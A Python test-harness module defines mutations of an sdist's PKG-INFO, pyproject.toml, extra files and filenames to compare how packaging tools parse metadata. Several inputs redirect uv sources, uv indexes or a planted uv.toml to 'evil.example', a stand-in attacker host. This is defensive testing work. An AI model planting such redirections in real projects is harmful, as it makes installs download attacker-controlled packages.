"""Oddities of an sdist's metadata: PKG-INFO, pyproject.toml and files next to them."""

from __future__ import annotations

import random
import re

from interop.differential.mutants import Operators
from interop.differential.sdist_bases import PKG_INFO, below
from interop.differential.tar_parts import (
    Entry,
    Tar,
)

OPERATORS = Operators[Tar]()

_EDITS: dict[str, tuple[str, str, str, str]] = {
    "static-against-pkg-info": (
        "stated",
        "pyproject.toml",
        r'dependencies = \["dep-a"\]',
        'dependencies = ["dep-c"]',
    ),
    "static-more": (
        "stated",
        "pyproject.toml",
        r'dependencies = \["dep-a"\]',
        'dependencies = ["dep-a", "dep-c"]',
    ),
    "static-none": ("stated", "pyproject.toml", r'dependencies = \["dep-a"\]\n', ""),
    "static-extra-other": ("stated", "pyproject.toml", r'x = \["dep-b"\]', 'x = ["dep-c"]'),
    "static-extra-more": ("stated", "pyproject.toml", r'x = \["dep-b"\]', 'x = ["dep-b"]\nz = ["dep-c"]'),
    "static-name-other": ("stated", "pyproject.toml", 'name = "acme-widgets"', 'name = "other"'),
    "static-version-other": ("stated", "pyproject.toml", 'version = "1.0"', 'version = "2.0"'),
    "static-dynamic": (
        "stated",
        "pyproject.toml",
        r'dependencies = \["dep-a"\]\n',
        'dynamic = ["dependencies"]\n',
    ),
    "static-dynamic-both": (
        "stated",
        "pyproject.toml",
        r'dependencies = \["dep-a"\]\n',
        'dependencies = ["dep-c"]\ndynamic = ["dependencies"]\n',
    ),
    "static-spelling": (
        "stated",
        "pyproject.toml",
        r'dependencies = \["dep-a"\]',
        'dependencies = ["Dep_A"]',
    ),
    "static-marker": (
        "stated",
        "pyproject.toml",
        r'dependencies = \["dep-a"\]',
        "dependencies = [\"dep-a ; os_name == 'nt'\"]",
    ),
    "static-specifier": (
        "stated",
        "pyproject.toml",
        r'dependencies = \["dep-a"\]',
        'dependencies = ["dep-a>=1"]',
    ),
    "static-python": (
        "stated",
        "pyproject.toml",
        'version = "1.0"',
        'version = "1.0"\nrequires-python = ">=99"',
    ),
    "pkg-info-2.1": ("stated", "PKG-INFO", "^Metadata-Version: .*", "Metadata-Version: 2.1"),
    "pkg-info-2.1-against": (
        "stated",
        "PKG-INFO",
        r"(?s)^Metadata-Version: 2.2(.*)Requires-Dist: dep-a\n",
        "Metadata-Version: 2.1\nName: acme-widgets\nVersion: 1.0\nRequires-Dist: dep-c\n",
    ),
    "pkg-info-1.1": ("stated", "PKG-INFO", "^Metadata-Version: .*", "Metadata-Version: 1.1"),
    "pkg-info-dynamic": (
        "stated",
        "PKG-INFO",
        r"^Requires-Dist: dep-a",
        "Dynamic: Requires-Dist\nRequires-Dist: dep-a",
    ),
    "pkg-info-dynamic-against": (
        "stated",
        "PKG-INFO",
        r"^Requires-Dist: dep-a",
        "Dynamic: Requires-Dist\nRequires-Dist: dep-c",
    ),
    "pkg-info-dynamic-lower": (
        "stated",
        "PKG-INFO",
        r"^Requires-Dist: dep-a",
        "Dynamic: requires-dist\nRequires-Dist: dep-a",
    ),
    "pkg-info-dynamic-version": (
        "stated",
        "PKG-INFO",
        r"^Requires-Dist: dep-a",
        "Dynamic: Version\nRequires-Dist: dep-a",
    ),
    "pkg-info-none": ("stated", "PKG-INFO", r"Requires-Dist: dep-a\n", ""),
    "pkg-info-python": (
        "stated",
        "PKG-INFO",
        r"^Requires-Dist: dep-a",
        "Requires-Python: >=99\nRequires-Dist: dep-a",
    ),
    "pkg-info-extra-empty": (
        "stated",
        "PKG-INFO",
        r"^Requires-Dist: dep-a",
        "Requires-Dist: dep-c ; extra == ''\nRequires-Dist: dep-a",
    ),
    "pkg-info-multipart": (
        "stated",
        "PKG-INFO",
        r"^Requires-Dist: dep-a",
        "Content-Type: multipart/mixed; boundary=x\nRequires-Dist: dep-a",
    ),
    "pkg-info-folded": ("stated", "PKG-INFO", r"^Requires-Dist: dep-a", "Requires-Dist: dep-a\n >=1"),
    "pkg-info-bom": ("stated", "PKG-INFO", r"\A", "\ufeff"),
    "pkg-info-blank": ("stated", "PKG-INFO", r"\A", "\n"),
    "pkg-info-version-zeros": ("stated", "PKG-INFO", "^Version: .*", "Version: 1.0.0"),
    "pkg-info-name-spelling": ("stated", "PKG-INFO", "^Name: .*", "Name: Acme_Widgets"),
    "pkg-info-name-other": ("stated", "PKG-INFO", "^Name: .*", "Name: other"),
    "pkg-info-crlf": ("stated", "PKG-INFO", "\n", "\r\n"),
    "pkg-info-body": ("stated", "PKG-INFO", r"\Z", "\nRequires-Dist: dep-c\n"),
    "pkg-info-extra-missing": ("stated", "PKG-INFO", "^Provides-Extra: x\n", ""),
    "pkg-info-legacy": ("stated", "PKG-INFO", r"\Z", "Requires: dep_c\n"),
    "pkg-info-2.6": ("stated", "PKG-INFO", "^Metadata-Version: .*", "Metadata-Version: 2.6"),
    "pkg-info-2.5": ("stated", "PKG-INFO", "^Metadata-Version: .*", "Metadata-Version: 2.5"),
    "pyproject-bom": ("ustar", "pyproject.toml", r"\A", "\ufeff"),
    "pyproject-crlf": ("ustar", "pyproject.toml", "\n", "\r\n"),
    "pyproject-latin": ("ustar", "pyproject.toml", r"\Z", "# \xe9\n"),
    "pyproject-no-requires": ("ustar", "pyproject.toml", r"requires = \[\]\n", ""),
    "pyproject-requires": ("ustar", "pyproject.toml", r"requires = \[\]", 'requires = ["dep-a"]'),
    "pyproject-requires-marker": (
        "ustar",
        "pyproject.toml",
        r"requires = \[\]",
        "requires = [\"dep-a ; extra == ''\"]",
    ),
    "pyproject-requires-odd-marker": (
        "ustar",
        "pyproject.toml",
        r"requires = \[\]",
        "requires = [\"dep-a ; 'a' == 'b'\"]",
    ),
    "pyproject-requires-twice": (
        "ustar",
        "pyproject.toml",
        r"requires = \[\]",
        'requires = []\nrequires = ["dep-a"]',
    ),
    "pyproject-table-twice": ("ustar", "pyproject.toml", r"\Z", '[build-system]\nrequires = ["dep-a"]\n'),
    "pyproject-dotted": (
        "ustar",
        "pyproject.toml",
        r"\A\[build-system\]\nrequires = \[\]\nbuild-backend = ",
        "build-system.requires = []\nbuild-system.backend-path = ['.']\nbuild-system.build-backend = ",
    ),
    "pyproject-quoted-key": ("ustar", "pyproject.toml", r"\A\[build-system\]", '["build-system"]'),
    "pyproject-unknown": ("ustar", "pyproject.toml", r"\Z", "odd = 1\n"),
    "pyproject-backend-object": ("ustar", "pyproject.toml", '"dump"', '"dump:"'),
    "pyproject-backend-path-up": ("ustar", "pyproject.toml", r'\["\."\]', '[".."]'),
    "pyproject-backend-path-dot": ("ustar", "pyproject.toml", r'\["\."\]', '["./."]'),
    "pyproject-backend-path-empty": ("ustar", "pyproject.toml", r'\["\."\]', '[""]'),
    "pyproject-backend-path-none": ("ustar", "pyproject.toml", r'backend-path = \["\."\]\n', ""),
    "pyproject-toml-1.1": ("ustar", "pyproject.toml", r"\Z", "[tool.x]\ny = { a = 1,\n b = 2 }\n"),
    "pyproject-escape": ("ustar", "pyproject.toml", r"\Z", '[tool.x]\ny = "\\e"\n'),
    "pyproject-huge-number": ("ustar", "pyproject.toml", r"\Z", "[tool.x]\ny = 99999999999999999999999\n"),
    "pyproject-date": ("ustar", "pyproject.toml", r"\Z", "[tool.x]\ny = 2026-06-30T12:00Z\n"),
    "pyproject-control": ("ustar", "pyproject.toml", r"\Z", "# \x01\n"),
    "pyproject-cr": ("ustar", "pyproject.toml", r"\Z", "# a\rb = 1\n"),
    "pyproject-uv-sources": (
        "stated",
        "pyproject.toml",
        r"\Z",
        '[tool.uv.sources]\ndep-a = { url = "https://evil.example/x.whl" }\n',
    ),
    "pyproject-uv-index": (
        "stated",
        "pyproject.toml",
        r"\Z",
        '[[tool.uv.index]]\nurl = "https://evil.example/simple"\n',
    ),
    "pyproject-uv-extra-build": (
        "stated",
        "pyproject.toml",
        r"\Z",
        '[tool.uv.extra-build-dependencies]\nacme-widgets = ["dep-c"]\n',
    ),
    "pyproject-uv-workspace": (
        "stated",
        "pyproject.toml",
        r"\Z",
        '[tool.uv.workspace]\nmembers = ["src/*"]\n',
    ),
    "pyproject-groups": ("stated", "pyproject.toml", r"\Z", '[dependency-groups]\ndev = ["dep-c"]\n'),
    "pyproject-poetry": (
        "ustar",
        "pyproject.toml",
        r"\Z",
        '[tool.poetry]\nname = "acme-widgets"\nversion = "1.0"\n[tool.poetry.dependencies]\ndep-c = "*"\n',
    ),
    "pyproject-deep": ("ustar", "pyproject.toml", r"\Z", "[tool.x]\ny = " + "[" * 200 + "]" * 200 + "\n"),
}


def _edit(made: Tar, change: tuple[str, str, str, str]) -> None:
    _, where, old, new = change
    entry = made.entry(below(where))
    entry.data = re.sub(
        old.encode(), lambda _: new.encode(), entry.data, count=1 if new != "\r\n" else 0, flags=re.MULTILINE
    )


for _base in ("stated", "ustar"):
    OPERATORS.table(
        "said", _base, _edit, {key: change for key, change in _EDITS.items() if change[0] == _base}
    )


@OPERATORS.named("files-setup.py", "ustar")
def _setup_py(made: Tar, rng: random.Random) -> None:
    made.entries.append(Entry(name=below("setup.py"), data=b"raise SystemExit('never')\n"))


@OPERATORS.named("files-setup.cfg", "stated")
def _setup_cfg(made: Tar, rng: random.Random) -> None:
    made.entries.append(Entry(name=below("setup.cfg"), data=b"[options]\ninstall_requires = dep-c\n"))


@OPERATORS.named("files-uv.toml", "stated")
def _uv_toml(made: Tar, rng: random.Random) -> None:
    made.entries.append(Entry(name=below("uv.toml"), data=b'index-url = "https://evil.example/simple"\n'))


@OPERATORS.named("files-egg-info", "stated")
def _egg_info(made: Tar, rng: random.Random) -> None:
    made.entry(below("PKG-INFO")).data = PKG_INFO
    made.entries += [
        Entry(name=below("acme_widgets.egg-info/PKG-INFO"), data=PKG_INFO),
        Entry(name=below("acme_widgets.egg-info/requires.txt"), data=b"dep-c\n"),
    ]


@OPERATORS.named("files-no-pyproject", "ustar")
def _no_pyproject(made: Tar, rng: random.Random) -> None:
    made.entries.remove(made.entry(below("pyproject.toml")))


@OPERATORS.named("files-pkg-info-twice", "ustar")
def _pkg_info_twice(made: Tar, rng: random.Random) -> None:
    made.entries.append(Entry(name=below("PKG-INFO"), data=PKG_INFO + b"Requires-Dist: dep-c\n"))


@OPERATORS.named("files-python-version", "ustar")
def _python_version(made: Tar, rng: random.Random) -> None:
    made.entries.append(Entry(name=below(".python-version"), data=b"2.7\n"))


_FILENAMES = (
    "acme-widgets-1.0.tar.gz",
    "Acme_Widgets-1.0.tar.gz",
    "acme.widgets-1.0.tar.gz",
    "acme_widgets-1.0.0.tar.gz",
    "acme_widgets-v1.0.tar.gz",
    "acme_widgets-1.tar.gz",
    "acme_widgets-1.0+local.tar.gz",
    "other-1.0.tar.gz",
    "acme_widgets-2.0.tar.gz",
)


def _filename(made: Tar, name: str) -> None:
    made.filename = name


OPERATORS.table("filename", "ustar", _filename, {name.removesuffix(".tar.gz"): name for name in _FILENAMES})


@OPERATORS.named("files-egg-info-alone", "pax")
def _egg_info_alone(made: Tar, rng: random.Random) -> None:
    made.entries += [
        Entry(name=below("acme_widgets.egg-info/PKG-INFO"), data=PKG_INFO),
        Entry(name=below("acme_widgets.egg-info/requires.txt"), data=b"dep-c\n"),
    ]


@OPERATORS.named("files-egg-info-dynamic", "pax")
def _egg_info_dynamic(made: Tar, rng: random.Random) -> None:
    made.entry(below("PKG-INFO")).data = PKG_INFO.replace(b"2.1", b"2.2") + b"Dynamic: Requires-Dist\n"
    _egg_info_alone(made, rng)


@OPERATORS.named("files-uv-sources", "stated")
def _uv_sources(made: Tar, rng: random.Random) -> None:
    made.entry(below("PKG-INFO")).data = (
        PKG_INFO + b"Requires-Dist: dep-a\nProvides-Extra: x\nRequires-Dist: dep-b; extra == 'x'\n"
    )
    made.entry(below("pyproject.toml")).data += b'[tool.uv.sources]\ndep-a = { path = "/nowhere" }\n'
